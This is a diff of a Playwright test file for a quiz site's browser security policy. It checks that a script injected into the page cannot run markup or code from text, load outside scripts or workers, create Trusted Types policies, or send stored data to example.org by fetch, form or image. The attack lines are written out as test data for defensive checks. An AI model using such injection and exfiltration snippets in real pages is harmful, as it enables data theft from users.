@@ -39,59 +39,65 @@ function hashOf(style: string): string {
   return `sha256-${createHash('sha256').update(style).digest('base64')}`
 }
 
-/** What somebody who got a script into a page would try next, as the body of a function that throws when it is stopped. */
-const attacks = [
-  { what: 'text that becomes markup', code: `document.body.innerHTML = '<img src=x>'` },
-  { what: 'text that becomes code', code: `new Function('return 1')()` },
-  {
-    what: 'a script from elsewhere',
-    code: `document.createElement('script').src = 'https://example.org/x.js'`,
-  },
-  {
-    what: 'a policy of its own',
-    code: `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
-  },
-  {
-    what: 'the site’s policy once more',
-    code: `trustedTypes.createPolicy('service-worker', { createScriptURL: (text) => text })`,
-  },
-  {
-    what: 'a style of its own',
-    code: `
+/**
+ * What somebody who got a script into a page would try next, as the body of a function that throws when it is stopped; on a device
+ * that keeps the site where its service worker has to do with it.
+ */
+const attacks: readonly { readonly what: string; readonly code: string; readonly keeps?: true }[] =
+  [
+    { what: 'text that becomes markup', code: `document.body.innerHTML = '<img src=x>'` },
+    { what: 'text that becomes code', code: `new Function('return 1')()` },
+    {
+      what: 'a script from elsewhere',
+      code: `document.createElement('script').src = 'https://example.org/x.js'`,
+    },
+    {
+      what: 'a policy of its own',
+      code: `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
+    },
+    {
+      what: 'the site’s policy once more',
+      keeps: true,
+      code: `trustedTypes.createPolicy('service-worker', { createScriptURL: (text) => text })`,
+    },
+    {
+      what: 'a style of its own',
+      code: `
       const refused = new Promise((_, stop) => addEventListener('securitypolicyviolation', () => stop(new Error('refused'))))
       document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }))
       await refused`,
-  },
-  { what: 'another worker', code: `new Worker('/assets/evil.js')` },
-  {
-    what: 'sending answers away',
-    code: `await fetch('https://example.org/?' + localStorage.length)`,
-  },
-  {
-    what: 'a form to elsewhere',
-    code: `
+    },
+    { what: 'another worker', keeps: true, code: `new Worker('/assets/evil.js')` },
+    {
+      what: 'sending answers away',
+      keeps: true,
+      code: `await fetch('https://example.org/?' + localStorage.length)`,
+    },
+    {
+      what: 'a form to elsewhere',
+      code: `
       const form = document.createElement('form')
       form.action = 'https://example.org/'
       document.body.append(form)
       const refused = new Promise((_, stop) => addEventListener('securitypolicyviolation', () => stop(new Error('refused'))))
       form.submit()
       await refused`,
-  },
-  {
-    what: 'a picture that carries answers away',
-    code: `
+    },
+    {
+      what: 'a picture that carries answers away',
+      code: `
       const image = new Image()
       const refused = new Promise((_, stop) => { image.onerror = () => stop(new Error('refused')) })
       image.src = 'https://example.org/?answers'
       await refused`,
-  },
-]
+    },
+  ]
 
 describe('a script that got in does not get', () => {
-  test.each(attacks)('$what', async ({ code }) => {
-    const { page } = await site.visitor({ hostile: true })
+  test.each(attacks)('$what', async ({ code, keeps = false }) => {
+    const { page } = await site.visitor({ hostile: true, keeps })
     await page.goto(site.at('/quiz/'))
-    await page.waitForFunction(() => navigator.serviceWorker.controller !== null)
+    if (keeps) await page.waitForFunction(() => navigator.serviceWorker.controller !== null)
     // After a pause it runs as a script of the page, and not with the rights of the one who tests.
     const outcome = await page.evaluate(`(async () => {
       await new Promise((go) => setTimeout(go))
@@ -111,7 +117,7 @@ test('no other site can put a page into a frame', async () => {
   const { page } = await site.visitor({ hostile: true })
   await page.goto(`http://localhost:${address.port}/`)
   expect(page.frames()).toHaveLength(2)
-  const shown = page.frameLocator('iframe').getByRole('heading', { name: 'Your results' })
+  const shown = page.frameLocator('iframe').getByRole('heading', { name: 'Your result' })
   expect(await shown.count()).toBe(0)
   other.close()
 })
